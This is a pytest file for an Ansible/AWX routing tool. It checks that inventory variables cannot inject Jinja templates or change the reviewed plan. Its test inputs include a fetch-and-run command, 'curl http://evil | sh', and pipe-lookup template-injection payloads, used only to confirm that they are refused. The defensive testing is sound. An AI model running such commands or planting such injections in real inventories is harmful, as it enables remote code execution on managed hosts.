"""The plan step under AWX: SYMROUTE_PLAN_INVENTORY=DIR plans from DIR's files.

AWX / Automation Platform hand every job its inventory as a generated,
executable script (docs/awx.md). The plan step refuses to read such a file (it
would be code), so the controller's environment names the reviewed inventory
directory (an AWX custom credential sets it; no inventory can set an
environment variable). The run's inventory must then give every router exactly
the planned directory's symroute_* variables, which the roles read from
hostvars. These tests run playbooks/plan.yml (its tasks all run on the
controller) against a script inventory written the way AWX writes one: from
``ansible-inventory --list --export`` of the imported files, or edited.
"""

import importlib.util
import json
import os
import shutil
import stat
import subprocess
import sys

import pytest

from paths import REPOSITORY
from symroute.settings import unknown_name_problem

LAB = REPOSITORY / "inventories" / "lab"
PLAYBOOK = REPOSITORY / "playbooks" / "plan.yml"
DIGEST = "sha256:" + "0" * 64


def _environment(tmp_path, planned=None, script_plugin=True):
    """The controller's environment: AWX's credentials set ANSIBLE_INVENTORY_ENABLED and SYMROUTE_PLAN_INVENTORY."""
    environment = dict(
        os.environ,
        ANSIBLE_CONFIG=str(REPOSITORY / "ansible.cfg"),
        ANSIBLE_NOCOLOR="1",
        ANSIBLE_LOCAL_TEMP=str(tmp_path / "tmp"),
    )
    environment.pop("SYMROUTE_PLAN_INVENTORY", None)
    environment.pop("ANSIBLE_INVENTORY_ENABLED", None)
    if script_plugin:
        environment["ANSIBLE_INVENTORY_ENABLED"] = "ansible.builtin.script"
    if planned is not None:
        environment["SYMROUTE_PLAN_INVENTORY"] = str(planned)
    return environment


def _write_script(path, inventory):
    path.write_text("#!/bin/sh\ncat <<'EOF'\n" + json.dumps(inventory) + "\nEOF\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return path


def _imported(directory):
    """The inventory as AWX imports it from ``directory`` (ansible-inventory --list --export)."""
    result = subprocess.run(
        [sys.executable, "-m", "ansible.cli.inventory", "-i", str(directory), "--list", "--export"],
        capture_output=True,
        text=True,
        check=True,
        env=dict(os.environ, ANSIBLE_CONFIG=str(REPOSITORY / "ansible.cfg")),
    )
    inventory = json.loads(result.stdout)
    inventory["_meta"].pop("profile", None)
    return inventory


def _awx_script(path, directory, edit=None):
    """AWX's executable inventory script for ``directory``: its import, run locally, optionally edited."""
    inventory = _imported(directory)
    for host in inventory["_meta"]["hostvars"].values():
        host.update(ansible_connection="local", ansible_python_interpreter=sys.executable)
    if edit:
        edit(inventory)
    return _write_script(path, inventory)


def _plan_step(tmp_path, script, planned=None, *extra, env=None):
    output = tmp_path / "plan.json"
    output.unlink(missing_ok=True)
    result = subprocess.run(
        [
            str(REPOSITORY / ".venv" / "bin" / "ansible-playbook"),
            "-i",
            str(script),
            str(PLAYBOOK),
            "-e",
            f"symroute_plan_output={output}",
            *extra,
        ],
        capture_output=True,
        text=True,
        timeout=180,
        cwd=tmp_path,
        env=env or _environment(tmp_path, planned),
        check=False,
    )
    result.text = " ".join((result.stdout + result.stderr).split())
    return result, (json.loads(output.read_text()) if output.exists() else None)


def _cli_digest(directory):
    result = subprocess.run(
        [str(REPOSITORY / "bin" / "symroute"), "plan", "--format", "json", "--inventory", str(directory)],
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(result.stdout)["digest"]


def _refused(result, plans, *fragments):
    assert result.returncode != 0 and plans is None, result.text[-3000:]
    assert "Traceback" not in result.text and "internal error" not in result.text.lower(), result.text[-3000:]
    for fragment in fragments:
        assert fragment in result.text, (fragment, result.text[-3000:])


def _pipe(canary):
    return "{{ lookup('ansible.builtin.pipe', 'touch " + str(canary) + "') }}"


@pytest.fixture()
def reviewed(tmp_path):
    """The reviewed inventory directory (a copy of the lab's), as in the AWX project checkout."""
    directory = tmp_path / "project" / "inventories" / "lab"
    shutil.copytree(LAB, directory)
    return directory


@pytest.fixture()
def script(tmp_path, reviewed):
    """AWX's script for the reviewed directory, unedited."""
    return _awx_script(tmp_path / "hosts", reviewed)


def _set_host_variable(name, value, host="edge"):
    def edit(inventory):
        inventory["_meta"]["hostvars"][host][name] = value

    return edit


# The environment variable plans from the directory.


def test_the_plan_step_plans_from_the_directory_not_the_script(tmp_path, reviewed, script):
    result, plans = _plan_step(tmp_path, script, reviewed)
    assert result.returncode == 0, result.text[-3000:]
    assert plans["digest"] == _cli_digest(reviewed)
    assert list(plans["routers"]) == ["edge"]


def test_a_relative_directory_is_taken_from_where_ansible_playbook_runs(tmp_path, reviewed, script):
    result, plans = _plan_step(tmp_path, script, "project/inventories/lab")
    assert result.returncode == 0, result.text[-3000:]
    assert plans["digest"] == _cli_digest(reviewed)


def test_without_the_variable_the_script_itself_is_refused(tmp_path, script):
    result, plans = _plan_step(tmp_path, script)
    _refused(result, plans, "executable")


@pytest.mark.parametrize(
    "value, fragment",
    [
        ("", "SYMROUTE_PLAN_INVENTORY is set but empty"),
        (" ", "SYMROUTE_PLAN_INVENTORY is set but empty"),
        ("project/inventories/missing", 'SYMROUTE_PLAN_INVENTORY="project/inventories/missing" is not a directory'),
        ("project/inventories/lab/hosts.yml", "is not a directory"),
    ],
    ids=["empty", "blank", "missing", "a-file"],
)
def test_an_empty_or_missing_directory_is_one_clear_message(tmp_path, reviewed, script, value, fragment):
    result, plans = _plan_step(tmp_path, script, value)
    _refused(result, plans, fragment, "nothing was applied")


def test_an_empty_directory_is_one_clear_message(tmp_path, script):
    (tmp_path / "empty").mkdir()
    result, plans = _plan_step(tmp_path, script, "empty")
    _refused(
        result, plans, "the inventory has 1 problem (under 'problems' below", f"{tmp_path / 'empty'}: cannot be loaded"
    )


def test_a_router_of_the_run_missing_from_the_planned_inventory_stops_the_run(tmp_path, reviewed):
    def add_router(inventory):
        inventory["symroute_routers"]["hosts"].append("edge-added-in-awx")
        inventory["_meta"]["hostvars"]["edge-added-in-awx"] = {"ansible_connection": "local"}

    script = _awx_script(tmp_path / "hosts", reviewed, add_router)
    result, _ = _plan_step(tmp_path, script, reviewed)
    assert result.returncode != 0
    assert 'router "edge-added-in-awx" is in this run\'s inventory but not in the planned inventory' in result.text


# The inventory cannot choose what is planned, nor run code on the way.


@pytest.mark.parametrize("where", ["files", "script"])
@pytest.mark.parametrize("name", ["symroute_plan_inventory", "symroute_expected_plan_digest"])
def test_the_inventory_setting_a_run_option_is_refused_and_nothing_runs(tmp_path, reviewed, where, name):
    canary = tmp_path / "canary"
    if where == "files":
        (reviewed / "group_vars" / "all" / "options.yml").write_text(f'{name}: "{_pipe(canary)}"\n')
        script = _awx_script(tmp_path / "hosts", reviewed)
    else:
        script = _awx_script(tmp_path / "hosts", reviewed, _set_host_variable(name, _pipe(canary)))
    result, plans = _plan_step(tmp_path, script, reviewed)
    _refused(result, plans, name)
    assert not canary.exists(), "a template from the inventory ran"


def test_the_inventory_cannot_shadow_the_functions_of_the_plan_step(tmp_path, reviewed):
    """An inventory variable named like a Jinja function (lookup) replaces it in every template."""
    canary = tmp_path / "canary"
    edits = [
        _set_host_variable(name, "{{ query('ansible.builtin.pipe', 'touch " + str(canary) + "') }}")
        for name in ("lookup", "query", "q", "omit")
    ]
    script = _awx_script(tmp_path / "hosts", reviewed, lambda inventory: [edit(inventory) for edit in edits])
    result, plans = _plan_step(tmp_path, script, reviewed)
    assert result.returncode == 0, result.text[-3000:]
    assert plans["digest"] == _cli_digest(reviewed)
    assert not canary.exists(), "a template from the inventory ran"


def test_an_inventory_setting_the_old_option_is_refused_as_unknown():
    assert "not a symroute variable" in unknown_name_problem("symroute_plan_inventory")


# The run's inventory must give the roles what was planned.


@pytest.mark.parametrize(
    "name, value",
    [
        ("symroute_monitor_hook", "curl http://evil | sh"),
        ("symroute_monitor_hook", ["/usr/bin/curl", "http://evil"]),
        ("symroute_monitor_python", "/tmp/python"),
        ("symroute_nftables_file", "/etc/nftables.d/other.nft"),
        ("symroute_monitor_enabled", "false"),
    ],
    ids=["hook-string", "hook-list", "python", "path", "flag-as-string"],
)
def test_run_hostvars_that_differ_from_the_planned_files_are_refused(tmp_path, reviewed, name, value):
    script = _awx_script(tmp_path / "hosts", reviewed, _set_host_variable(name, value))
    result, plans = _plan_step(tmp_path, script, reviewed)
    _refused(
        result,
        plans,
        f'router "edge": variable {name}: the run\'s inventory gives a value the planned '
        f"inventory ({reviewed}) does not",
        "nothing was applied",
    )


def test_a_jinja_value_is_refused_and_never_rendered(tmp_path, reviewed):
    canary = tmp_path / "canary"
    script = _awx_script(tmp_path / "hosts", reviewed, _set_host_variable("symroute_monitor_python", _pipe(canary)))
    result, plans = _plan_step(tmp_path, script, reviewed)
    _refused(result, plans, 'router "edge": variable symroute_monitor_python: the run\'s inventory gives a value')
    assert not canary.exists(), "a template from the inventory ran"


def test_a_changed_partner_list_and_a_removed_variable_are_refused_all_at_once(tmp_path, reviewed):
    def edit(inventory):
        variables = inventory["_meta"]["hostvars"]["edge"]
        first = sorted(name for name in variables if name.startswith("symroute_") and name != "symroute_partners")[0]
        edit.removed = first
        del variables[first]
        for group in inventory.values():
            if isinstance(group, dict) and "symroute_partners" in group.get("vars", {}):
                group["vars"]["symroute_partners"] = group["vars"]["symroute_partners"][:-1]

    script = _awx_script(tmp_path / "hosts", reviewed, edit)
    result, plans = _plan_step(tmp_path, script, reviewed)
    _refused(
        result,
        plans,
        'router "edge": variable symroute_partners: the run\'s inventory gives a value',
        f'router "edge": variable {edit.removed}: the run\'s inventory does not give it',
    )


def test_the_run_variables_are_read_raw(tmp_path):
    """ansible-inventory --list, as the module runs it, returns a Jinja value as written and renders nothing."""
    canary = tmp_path / "canary"
    inventory = {
        "symroute_routers": {"hosts": ["edge"], "vars": {"symroute_monitor_hook": _pipe(canary)}},
        "_meta": {"hostvars": {"edge": {"symroute_x": [1, 2.5, True, None], "other": _pipe(canary)}}},
    }
    script = _write_script(tmp_path / "hosts", inventory)
    spec = importlib.util.spec_from_file_location(
        "symroute_inventory_plan", REPOSITORY / "library" / "symroute_inventory_plan.py"
    )
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)

    class Runner:
        @staticmethod
        def run_command(command, cwd=None):
            done = subprocess.run(
                command, capture_output=True, text=True, env=_environment(tmp_path), cwd=cwd, check=False
            )
            return done.returncode, done.stdout, done.stderr

        @staticmethod
        def fail_json(**result):
            raise AssertionError(result)

    variables = module.run_variables(Runner, [str(script)], "symroute_routers", str(tmp_path))
    assert variables == {"edge": {"symroute_monitor_hook": _pipe(canary), "symroute_x": [1, 2.5, True, None]}}
    assert "{{" in variables["edge"]["symroute_monitor_hook"] and not canary.exists()


# AWX's import of the same files passes; no router fails the run; the digest still pins the plan.


def test_the_run_inventory_imported_from_the_same_files_passes(tmp_path, reviewed):
    (reviewed / "host_vars" / "edge.yml").write_text(
        (reviewed / "host_vars" / "edge.yml").read_text()
        + "symroute_monitor_hook: [/usr/local/bin/alert, --team, net]\n"
        "symroute_monitor_partner_timeout_s: 2.5\n"
    )
    script = _awx_script(tmp_path / "hosts", reviewed)
    result, plans = _plan_step(tmp_path, script, reviewed)
    assert result.returncode == 0, result.text[-3000:]
    assert plans["digest"] == _cli_digest(reviewed)
    assert plans["routers"]["edge"]["settings"]["symroute_monitor_hook"][0] == "/usr/local/bin/alert"


def test_an_inventory_without_routers_fails_the_run(tmp_path, reviewed):
    script = _awx_script(tmp_path / "hosts", reviewed)
    # AWX without the script plugin: the project's ansible.cfg enables the YAML and INI plugins only.
    result, plans = _plan_step(tmp_path, script, env=_environment(tmp_path, reviewed, script_plugin=False))
    _refused(
        result,
        plans,
        "no router in group symroute_routers",
        "under AWX enable the script inventory plugin (docs/awx.md)",
    )


def test_with_routers_the_guard_leaves_no_trace(tmp_path, reviewed, script):
    result, _ = _plan_step(tmp_path, script, reviewed)
    assert result.returncode == 0 and "localhost" not in result.stdout.split("PLAY RECAP")[-1], result.text[-3000:]


@pytest.mark.parametrize("planned", [True, False], ids=["awx", "files"])
def test_the_reviewed_digest_is_still_required(tmp_path, reviewed, script, planned):
    source, environment = (
        (script, _environment(tmp_path, reviewed))
        if planned
        else (reviewed, _environment(tmp_path, script_plugin=False))
    )
    result, plans = _plan_step(tmp_path, source, None, "-e", f"symroute_expected_plan_digest={DIGEST}", env=environment)
    _refused(result, plans, f"not the reviewed {DIGEST}", "nothing was applied")
    result, plans = _plan_step(
        tmp_path, source, None, "-e", f"symroute_expected_plan_digest={_cli_digest(reviewed)}", env=environment
    )
    assert result.returncode == 0 and plans["digest"] == _cli_digest(reviewed), result.text[-3000:]
